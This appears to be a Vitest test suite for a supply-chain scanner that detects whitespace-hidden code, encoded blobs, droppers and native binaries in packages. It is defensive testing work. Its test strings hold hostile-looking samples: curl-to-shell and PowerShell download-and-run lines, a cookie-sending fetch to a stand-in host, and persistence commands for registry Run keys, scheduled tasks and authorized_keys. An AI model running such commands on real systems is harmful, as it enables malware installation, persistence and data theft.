import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import {
  analyseBinary,
  analyseShellCommand,
  analyseText,
  nativeBinaryKind,
  shellCommandWords,
  type TextLanguage,
  textLanguageOf,
} from "./text.js";
import type { RawFinding } from "./types.js";

const FIXTURES = join(import.meta.dirname, "__fixtures__", "text");
const fixture = (name: string) => readFileSync(join(FIXTURES, name), "utf8");

/** Deterministic pseudo-random text over an alphabet (a small LCG). */
function pseudoRandom(length: number, alphabet: string, seed = 7): string {
  let x = seed >>> 0;
  let out = "";
  for (let i = 0; i < length; i++) {
    x = (Math.imul(x, 1664525) + 1013904223) >>> 0;
    out += alphabet[(x >>> 16) % alphabet.length];
  }
  return out;
}
const B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const HEX = "0123456789abcdef";

function run(path: string, text: string, lang: TextLanguage): RawFinding[] {
  return analyseText({ path, text }, lang);
}
const rules = (fs: RawFinding[]) => fs.map((f) => f.rule);
const only = (fs: RawFinding[], rule: string) => fs.filter((f) => f.rule === rule);

describe("textLanguageOf", () => {
  it.each([
    ["setup.py", "", "python"],
    ["pkg/tool.pyw", "", "python"],
    ["index.js", "", "javascript"],
    ["lib/a.cjs", "", "javascript"],
    ["src/a.tsx", "", "javascript"],
    ["types/index.d.ts", "", "other"],
    ["install.sh", "", "shell"],
    ["tools/Setup.PS1", "", "shell"],
    ["build.bat", "", "shell"],
    ["bin/run", "#!/bin/sh\necho", "shell"],
    ["bin/run", "#!/usr/bin/env bash\n", "shell"],
    ["bin/tool", "#!/usr/bin/env python3\n", "python"],
    ["bin/cli", "#!/usr/bin/env -S node --no-warnings\n", "javascript"],
    ["bin/cli", "#!/usr/local/bin/node\n", "javascript"],
    ["README.md", "curl x | sh", "other"],
    ["bin/data", "just text", "other"],
  ])("%s is %s", (path, head, lang) => {
    expect(textLanguageOf(path, head)).toBe(lang);
  });

  it("runs no rules on other files", () => {
    expect(run("README.md", "curl -fsSL https://get.example.com | sh", "other")).toEqual([]);
  });
});

describe("hidden-by-whitespace", () => {
  it("is critical for the W4SP setup.py", () => {
    const text = fixture("w4sp-setup.py");
    const f = only(run("setup.py", text, "python"), "hidden-by-whitespace");
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ line: 2, severity: "critical" });
    expect(f[0]!.column).toBe(text.split("\n")[1]!.indexOf(";") + 1);
    expect(f[0]!.snippet).toMatch(/^;__import__\('builtins'\)\.exec/);
    expect(f[0]!.why).toContain("__import__");
  });

  it("is high when the hidden part runs nothing named", () => {
    const f = run("m.py", `x = 1${" ".repeat(200)};y = 2\n`, "python");
    expect(f).toEqual([expect.objectContaining({ rule: "hidden-by-whitespace", severity: "high", line: 1 })]);
  });

  it("finds it in JavaScript, after NBSP and after tabs", () => {
    const js = `const a = 1;\nmodule.exports = a;${" ".repeat(250)}require('child_process').exec('id')\n`;
    expect(only(run("index.js", js, "javascript"), "hidden-by-whitespace")).toEqual([
      expect.objectContaining({ line: 2, severity: "critical" }),
    ]);
    const nbsp = `let x = 2;${"\u00a0".repeat(180)}eval(x)\n`;
    expect(only(run("a.js", nbsp, "javascript"), "hidden-by-whitespace")).toHaveLength(1);
    const tabs = `x = 1${"\t".repeat(40)};exec(y)\n`;
    expect(only(run("a.py", tabs, "python"), "hidden-by-whitespace")).toEqual([
      expect.objectContaining({ severity: "critical" }),
    ]);
  });

  it("finds code on a line of its own after deep indentation", () => {
    const js = `function f() {\n${" ".repeat(300)}fetch('https://x.example/' + document.cookie)\n}\n`;
    expect(only(run("a.js", js, "javascript"), "hidden-by-whitespace")).toEqual([
      expect.objectContaining({ line: 2, severity: "critical" }),
    ]);
  });

  it("ignores trailing white space, strings, comments and ordinary alignment", () => {
    const py = [
      `import os${" ".repeat(300)}`,
      `DOC = """${" ".repeat(10)}`,
      `table:${" ".repeat(200)}exec ends here`,
      `"""`,
      `x = "${" ".repeat(200)}not code"`,
      `y = f'{x}${" ".repeat(200)}still a string'`,
      `z = 1${" ".repeat(200)}# a comment far to the right`,
      `w = 2${" ".repeat(60)}# aligned comment`,
      `v = 3${" ".repeat(60)};u = 4`,
      "",
    ].join("\n");
    expect(run("m.py", py, "python")).toEqual([]);
    const js = [
      `const t = \`${" ".repeat(200)}template text \${1 + 1}${" ".repeat(200)}more text\`;`,
      `const r = /"/;${" ".repeat(40)}// comment`,
      `/* block${" ".repeat(200)}comment */`,
      `const s = '${" ".repeat(200)}x';`,
      `a = b / c;${" ".repeat(200)}// division, then a comment`,
      "",
    ].join("\n");
    expect(run("a.js", js, "javascript")).toEqual([]);
  });

  it("is not fooled by a regex literal with a quote in it", () => {
    const js = `const q = /'/g;${" ".repeat(200)}eval(atob(s))\n`;
    expect(rules(run("a.js", js, "javascript"))).toEqual(["hidden-by-whitespace"]);
  });

  it("needs both a long run and an off-screen column", () => {
    const code = `value = compute(${"a".repeat(53)})`;
    expect(code).toHaveLength(70);
    const at = (spaces: number) => run("m.py", `${code}${" ".repeat(spaces)};os.system(cmd)\n`, "python");
    expect(at(80)).toEqual([expect.objectContaining({ rule: "hidden-by-whitespace", column: 151 })]);
    expect(at(79)).toEqual([]);
    expect(run("m.py", `x = 1${" ".repeat(100)};os.system(cmd)\n`, "python")).toEqual([]); // column 106
  });

  it("reads Python string prefixes, escapes and hashes in strings", () => {
    const pad = " ".repeat(200);
    const py = [
      `a = rb"\\\\"${pad};exec(x)`,
      `b = f'{1}\\'' "#"${pad};exec(x)`,
      `c = '''it\\'s ''' + """q\\"""" ${pad};exec(x)`,
      "",
    ].join("\n");
    expect(run("m.py", py, "python").map((f) => f.line)).toEqual([1, 2, 3]);
  });

  it("knows code inside a template substitution is code", () => {
    const js = `const t = \`a\${\n${" ".repeat(200)}eval(x)}\`;\n`;
    expect(rules(run("a.js", js, "javascript"))).toEqual(["hidden-by-whitespace"]);
    const pad = " ".repeat(200);
    const nested = `const t = \`\${ "}" + \`\${ {a: 1}.a }\` } and text${pad}more text\`;\nx = 1;${pad}eval(y)\n`;
    expect(run("a.js", nested, "javascript").map((f) => f.line)).toEqual([2]);
  });
});

describe("long-line", () => {
  const longCode = `x = [${Array.from({ length: 1200 }, (_, i) => i).join(", ")}]`;

  it("reports a Python line of thousands of characters", () => {
    expect(longCode.length).toBeGreaterThan(5000);
    const f = run("pkg/util.py", `import os\n${longCode}\nprint(x)\n`, "python");
    expect(f).toEqual([expect.objectContaining({ rule: "long-line", line: 2 })]);
    expect(f[0]!.severity).toBeUndefined();
  });

  it("skips shorter lines, generated files and tests", () => {
    expect(run("pkg/util.py", `x = [${"1, ".repeat(1000)}]\n`, "python")).toEqual([]);
    expect(run("pkg/a_pb2.py", `${longCode}\n`, "python")).toEqual([]);
    expect(run("pkg/tables.py", `# Generated by tablegen. DO NOT EDIT.\n${longCode}\n`, "python")).toEqual(
      [],
    );
    expect(run("pkg/tests/test_x.py", `${longCode}\n`, "python")).toEqual([]);
  });

  const oneLine = `var a=${Array.from({ length: 1500 }, (_, i) => `f${i}()`).join(",")};\n`;

  it("reports a single-line JavaScript file that is not a recognised bundle", () => {
    const f = run("index.js", oneLine, "javascript");
    expect(f).toEqual([expect.objectContaining({ rule: "long-line", line: 1 })]);
    expect(f[0]!.why).toMatch(/not a recognised minified bundle/);
  });

  it("does not report minified bundles or multi-line files", () => {
    expect(run("dist/index.js", oneLine, "javascript")).toEqual([]);
    expect(run("lib/x.min.js", oneLine, "javascript")).toEqual([]);
    expect(run("index.js", `/*! x v1.0.0 | MIT */\n${oneLine}`, "javascript")).toEqual([]);
    expect(run("index.js", `${oneLine}//# sourceMappingURL=index.js.map\n`, "javascript")).toEqual([]);
    const multi = `"use strict";\nconst a = 1;\nconst b = 2;\nfunction c() {}\n${oneLine}`;
    expect(run("index.js", multi, "javascript")).toEqual([]);
  });

  it("is medium for javascript-obfuscator output, whatever the name", () => {
    const names = Array.from({ length: 40 }, (_, i) => `_0x${(0x1a2b + i * 7).toString(16)}`);
    const obf = `var ${names.map((n) => `${n}=${n}^0x1f`).join(",")};${"x".repeat(5000)}\n`;
    const f = run("dist/index.min.js", obf, "javascript");
    expect(f).toEqual([expect.objectContaining({ rule: "long-line", severity: "medium" })]);
  });
});

describe("high-entropy-literal", () => {
  const blob = pseudoRandom(400, B64);

  it("reports a base64 blob in readable Python", () => {
    const text = `import base64\n\nPAYLOAD = "${blob}"\n\ndef run():\n    return base64.b64decode(PAYLOAD)\n`;
    const f = run("pkg/core.py", text, "python");
    expect(f).toEqual([expect.objectContaining({ rule: "high-entropy-literal", line: 3, column: 11 })]);
    expect(f[0]!.why).toMatch(/400-character string of base64/);
  });

  it("reports escaped random bytes, hex, and blobs in JavaScript bundles", () => {
    const bytes = Array.from(
      pseudoRandom(300, HEX + HEX.toUpperCase(), 3).match(/../g)!,
      (h) => `\\x${h}`,
    ).join("");
    const byteBlob = `import zlib\nDATA = b'${bytes.repeat(2)}'\n`;
    expect(rules(run("pkg/x.py", byteBlob, "python"))).toEqual(["high-entropy-literal"]);
    const hex = `KEY = '${pseudoRandom(256, HEX, 5)}'\n`;
    expect(only(run("pkg/k.py", hex, "python"), "high-entropy-literal")[0]?.why).toMatch(/of hex/);
    const js = `module.exports = function () {\n  return "${blob}";\n};\n`;
    expect(run("dist/index.js", js, "javascript")).toEqual([
      expect.objectContaining({ rule: "high-entropy-literal", line: 2 }),
    ]);
    const twice = `a = "${blob}"\nb = "${pseudoRandom(300, B64, 9)}"\n`;
    expect(run("p.py", twice, "python")[0]!.why).toMatch(/2 such literals/);
  });

  it("ignores comments, tests, media, certificates, integrity hashes and low-entropy strings", () => {
    const cases: [string, string, "python" | "javascript"][] = [
      ["pkg/a.py", `# ${blob}\nx = 1\n`, "python"],
      ["pkg/tests/test_a.py", `X = "${blob}"\n`, "python"],
      ["test/fixtures.js", `const x = "${blob}";\n`, "javascript"],
      ["lib/a.spec.js", `const x = "${blob}";\n`, "javascript"],
      ["index.js", `// ${blob}\n//# sourceMappingURL=data:application/json;base64,${blob}\n`, "javascript"],
      ["index.js", `const png = "data:image/png;base64,${blob}";\n`, "javascript"],
      ["index.js", `const css = "url(data:font/woff2;base64,${blob})";\n`, "javascript"],
      ["index.js", `const wasm = "AGFzbQEAAAAB${blob}";\n`, "javascript"],
      ["index.js", `const icon = "iVBORw0KGgoAAAANSUhEUg${blob}";\n`, "javascript"],
      ["a.py", `CERT = "-----BEGIN CERTIFICATE-----\\n${blob}\\n-----END CERTIFICATE-----"\n`, "python"],
      ["a.js", `const i = "sha512-${blob}";\n`, "javascript"],
      ["a.py", `PAD = "${"A".repeat(400)}"\n`, "python"],
      ["a.py", `ALPHA = "${"abcdefghijklmnopqrstuvwxyz".repeat(12)}"\n`, "python"],
      [
        "a.py",
        `RANGES = '${Array.from({ length: 80 }, (_, i) => `\\u${(0x0400 + i * 37).toString(16).padStart(4, "0")}-\\u${(0x0410 + i * 37).toString(16).padStart(4, "0")}`).join("")}'\n`,
        "python",
      ],
      ["lib/generated/decode-data.js", `module.exports = "${blob}";\n`, "javascript"],
    ];
    for (const [path, text, lang] of cases)
      expect(run(path, text, lang), path + text.slice(0, 40)).toEqual([]);
  });

  it("finds blobs of exactly 200 characters, at the start and the end of a file", () => {
    const b200 = pseudoRandom(200, B64, 11);
    expect(rules(run("a.py", `"${b200}"`, "python"))).toEqual(["high-entropy-literal"]);
    expect(rules(run("a.js", `x = 1;\nmodule.exports = '${b200}'`, "javascript"))).toEqual([
      "high-entropy-literal",
    ]);
    expect(run("a.py", `"${b200.slice(1)}"`, "python")).toEqual([]);
  });

  it("treats a raw string's backslashes as characters", () => {
    const raw = `RE = r'${"\\d+\\s*".repeat(50)}'\n`;
    expect(run("a.py", raw, "python")).toEqual([]);
  });
});

describe("shell scripts", () => {
  it("finds every attack in a dropper script", () => {
    const f = run("scripts/postinstall.sh", fixture("dropper.sh"), "shell");
    const by = (rule: string) => f.filter((x) => x.rule === rule).map((x) => [x.line, x.severity]);
    expect(by("download-exec")).toEqual([
      [8, undefined],
      [10, undefined],
    ]);
    expect(f.find((x) => x.line === 8)!.why).toMatch(/downloaded at line 6/);
    expect(by("reverse-shell")).toEqual([[19, undefined]]);
    expect(by("encoded-command")).toEqual([[18, undefined]]);
    expect(by("persistence")).toEqual([
      [12, undefined],
      [13, undefined],
    ]);
    expect(by("secret-exfil")).toEqual([[15, undefined]]);
    expect(by("exfil-endpoint")).toEqual([
      [6, "high"],
      [10, "high"],
      [13, "medium"],
      [16, "high"],
    ]);
  });

  it("reports nothing in a benign build script full of look-alikes", () => {
    expect(run("build.sh", fixture("benign-build.sh"), "shell")).toEqual([]);
  });

  it("reads printed text as text unless it is piped into a shell", () => {
    expect(run("a.sh", 'echo "run: curl -s https://x.example/i | sh"\n', "shell")).toEqual([]);
    expect(run("a.sh", "Write-Host 'iwr https://x.example/a | iex'\n", "shell")).toEqual([]);
    expect(rules(run("a.sh", 'echo "curl -s https://x.example/i | sh" | sh\n', "shell"))).toEqual([
      "download-exec",
    ]);
    expect(rules(run("a.sh", 'printf "%s" "$P" | base64 -d | bash\n', "shell"))).toEqual(["encoded-command"]);
  });

  it("treats a here-document read by a shell as code", () => {
    const text =
      "bash <<EOF\ncurl -s https://x.example/i | sh\nEOF\ncat <<'END'\ncurl -s https://x.example/i | sh\nEND\n";
    expect(run("a.sh", text, "shell")).toEqual([expect.objectContaining({ rule: "download-exec", line: 2 })]);
  });

  it("joins continuation lines and reports the physical line of the match", () => {
    const text = "set -e\ncurl -fsSL \\\n  https://x.example/i.sh \\\n  | bash\n";
    expect(run("a.sh", text, "shell")).toEqual([expect.objectContaining({ rule: "download-exec", line: 2 })]);
  });

  it("handles PowerShell and batch files", () => {
    const ps = [
      "<# iwr https://x.example/a | iex #>",
      "# iwr https://x.example/a | iex",
      "$u = 'https://x.example/a.ps1'",
      "iex (New-Object Net.WebClient).DownloadString($u)",
      "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name upd -Value $exe",
      "Add-Content -Path $PROFILE -Value 'iex (irm https://x.example/p)'",
      "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
      "",
    ].join("\n");
    expect(run("setup.ps1", ps, "shell").map((f) => [f.rule, f.line])).toEqual([
      ["download-exec", 4],
      ["persistence", 5],
      ["download-exec", 6],
      ["persistence", 6],
      ["encoded-command", 7],
    ]);
    const bat = [
      "@echo off",
      "REM certutil -urlcache -f http://x.example/a.exe a.exe",
      ":: reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
      "certutil -urlcache -split -f http://x.example/a.exe %TEMP%\\a.exe",
      'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v upd /d "%TEMP%\\a.exe" /f',
      "schtasks /create /sc onlogon /tn upd /tr %TEMP%\\a.exe",
      'copy a.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"',
      "",
    ].join("\r\n");
    expect(run("install.cmd", bat, "shell").map((f) => [f.rule, f.line])).toEqual([
      ["encoded-command", 4],
      ["persistence", 5],
      ["persistence", 6],
      ["persistence", 7],
    ]);
  });

  it("reports persistence writes, not reads, and PATH-only profile edits as medium", () => {
    const reads =
      "source ~/.bashrc\n. ~/.profile\ngrep -q x ~/.zshrc\ncat ~/.bashrc > /tmp/copy\ncrontab -l\n";
    expect(run("a.sh", reads, "shell")).toEqual([]);
    const writes = [
      "echo 'export PATH=$HOME/.tool/bin:$PATH' >> ~/.bashrc",
      'echo "$PAYLOAD" | tee -a "$HOME/.zshrc"',
      "cp updater.plist ~/Library/LaunchAgents/com.apple.updater.plist",
      "systemctl --user enable updater.service",
      "echo ssh-ed25519 AAAAC3Nza attacker >> ~/.ssh/authorized_keys",
      'echo "$PAYLOAD" >> ~/.bashrc',
      "echo \"alias ls='ls -G'\" >> ~/.bashrc",
      "true > ~/.bashrc",
      "echo 'nohup ~/.cache/agent &' >> ~/.profile",
      "",
    ].join("\n");
    expect(run("a.sh", writes, "shell").map((f) => [f.rule, f.line, f.severity])).toEqual([
      ["persistence", 1, "medium"],
      ["persistence", 2, undefined],
      ["persistence", 3, undefined],
      ["persistence", 4, undefined],
      ["persistence", 5, undefined],
      ["persistence", 6, undefined],
      ["persistence", 7, "medium"],
      ["persistence", 8, "medium"],
      ["persistence", 9, undefined],
    ]);
  });

  it("rates endpoints by use and ignores private and metadata addresses", () => {
    expect(run("a.sh", "URL=https://abc123.ngrok.io/c\n", "shell")).toEqual([
      expect.objectContaining({ rule: "exfil-endpoint", severity: "medium" }),
    ]);
    const benign =
      "curl -s http://10.0.0.5/api\ncurl http://169.254.169.254/latest/meta-data/\nwget https://docs.python.org/3/\ncurl http://localhost:8080\n";
    expect(run("a.sh", benign, "shell")).toEqual([]);
  });

  it("exposes the one-line analysis and the command splitter", () => {
    expect(rules(analyseShellCommand("node x.js && curl -s https://x.example/i | sh"))).toEqual([
      "download-exec",
    ]);
    expect(shellCommandWords('A=1 sudo node "my file.js" && ./b.sh | tee log; c')).toEqual([
      ["node", "my file.js"],
      ["./b.sh"],
      ["tee", "log"],
      ["c"],
    ]);
  });
});

describe("nativeBinaryKind", () => {
  const bytes = (...b: number[]) => {
    const a = new Uint8Array(4096);
    a.set(b);
    return a;
  };
  const pe = () => {
    const a = bytes(0x4d, 0x5a);
    a[60] = 0x80;
    a.set([0x50, 0x45, 0, 0], 0x80);
    return a;
  };

  it("recognises ELF, PE and every Mach-O magic", () => {
    expect(nativeBinaryKind(bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1))).toBe("ELF");
    expect(nativeBinaryKind(pe())).toBe("PE");
    for (const m of [
      [0xfe, 0xed, 0xfa, 0xce],
      [0xfe, 0xed, 0xfa, 0xcf],
      [0xce, 0xfa, 0xed, 0xfe],
      [0xcf, 0xfa, 0xed, 0xfe],
    ])
      expect(nativeBinaryKind(bytes(...m))).toBe("Mach-O");
    expect(nativeBinaryKind(bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2))).toBe("Mach-O");
    expect(nativeBinaryKind(bytes(0xca, 0xfe, 0xba, 0xbf, 0, 0, 0, 3))).toBe("Mach-O");
    expect(nativeBinaryKind(bytes(0xbe, 0xba, 0xfe, 0xca, 2, 0, 0, 0))).toBe("Mach-O");
  });

  it("is not fooled by Java classes, text starting with MZ, or short files", () => {
    expect(nativeBinaryKind(bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34))).toBeUndefined();
    const mzText = new TextEncoder().encode(`MZ is the start of this text file${" and more".repeat(10)}`);
    expect(nativeBinaryKind(mzText)).toBeUndefined();
    const noPe = pe();
    noPe[0x80] = 0x4e;
    expect(nativeBinaryKind(noPe)).toBeUndefined();
    expect(nativeBinaryKind(new Uint8Array([0x7f, 0x45]))).toBeUndefined();
    expect(nativeBinaryKind(new TextEncoder().encode("#!/bin/sh\necho hi\n"))).toBeUndefined();
  });
});

describe("analyseBinary", () => {
  it("skips wheels, rates prebuilt addons and platform packages low, the rest medium", () => {
    expect(analyseBinary("lib/_speedups.so", "ELF", { packageKind: "wheel" })).toBeUndefined();
    expect(
      analyseBinary("prebuilds/linux-x64/node.napi.node", "ELF", { packageKind: "npm-tarball" }),
    ).toMatchObject({
      rule: "native-binary",
      severity: "low",
      line: 1,
    });
    expect(analyseBinary("build/Release/addon.node", "Mach-O", { packageKind: "directory" })?.severity).toBe(
      "low",
    );
    expect(
      analyseBinary("bin/esbuild", "ELF", { packageKind: "npm-tarball", npmDeclaresPlatform: true })
        ?.severity,
    ).toBe("low");
    const plain = analyseBinary("lib/helper", "ELF", { packageKind: "npm-tarball" });
    expect(plain).toMatchObject({ rule: "native-binary", line: 1 });
    expect(plain!.severity).toBeUndefined();
    expect(analyseBinary("lib/addon.node", "PE", { packageKind: "npm-tarball" })?.severity).toBeUndefined();
    expect(analyseBinary("pkg/x.exe", "PE", { packageKind: "sdist" })?.why).toMatch(/PE executable/);
  });
});
